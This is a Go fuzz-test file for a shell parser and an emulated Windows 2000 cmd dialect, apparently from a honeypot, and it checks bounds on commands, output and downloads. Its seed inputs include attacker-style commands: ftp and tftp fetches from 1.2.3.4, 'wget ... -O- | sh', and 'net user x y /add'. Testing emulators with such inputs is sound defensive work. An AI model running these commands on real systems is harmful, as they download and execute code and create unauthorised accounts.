package shell

import (
	"strings"
	"testing"
)

// FuzzParse checks the parser under both syntaxes: no panic, bounds kept,
// and every command has a name or a redirection.
func FuzzParse(f *testing.F) {
	for _, tc := range parseCases {
		f.Add(tc.line)
	}
	f.Add("echo open 1.2.3.4 21> x & echo get a.exe>>x & ftp -s:x")
	f.Add("cd /tmp || cd /var/run; wget http://1.2.3.4/x -O- | sh; chmod 777 x 2>&1 >/dev/null")
	f.Fuzz(func(t *testing.T, line string) {
		for _, syn := range []Syntax{CmdSyntax, ShSyntax} {
			cmds, err := Parse(line, syn)
			if err != nil {
				if _, ok := err.(*SyntaxError); !ok {
					t.Fatalf("error of type %T", err)
				}
				continue
			}
			if len(cmds) > MaxCommands {
				t.Fatalf("%d commands", len(cmds))
			}
			for i, c := range cmds {
				if len(c.Args) == 0 && len(c.Redirects) == 0 {
					t.Fatalf("command %d is empty: %+v", i, c)
				}
				if len(c.Args) > MaxArgs {
					t.Fatalf("%d args", len(c.Args))
				}
				if (i == 0) != (c.Op == First) {
					t.Fatalf("command %d has op %v", i, c.Op)
				}
				if !strings.Contains(line, c.Raw) {
					t.Fatalf("raw %q is not part of the line", c.Raw)
				}
			}
		}
	})
}

// FuzzCmd runs arbitrary lines through the cmd dialect: nothing panics,
// output and downloads stay bounded.
func FuzzCmd(f *testing.F) {
	for _, s := range []string{"dir", `cd .. & dir /a /b *.*`, `tftp -i 1.2.3.4 GET x`, `echo a> b & type b & del b`,
		`cmd /c cmd /c cmd /c cmd /c cmd /c ver`, `net user x y /add`, `ftp -s:c:\boot.ini`, `md a\b\c & rd a`,
		`copy c:\winnt\system32\cmd.exe x.exe & x /c echo %COMSPEC%`, `dir | find /i "exe" | find "c"`} {
		f.Add(s)
	}
	tree := Win2000Tree(WinOptions{})
	f.Fuzz(func(t *testing.T, line string) {
		sh := newCmdShell(`c:\inetpub\scripts`)
		sh.State.FS = NewFS(tree)
		for i := 0; i < 3; i++ {
			ex := sh.Exec(line)
			if len(ex.Output) > 64<<10 || len(ex.Downloads) > MaxDownloads {
				t.Fatalf("output %d bytes, %d downloads", len(ex.Output), len(ex.Downloads))
			}
		}
	})
}
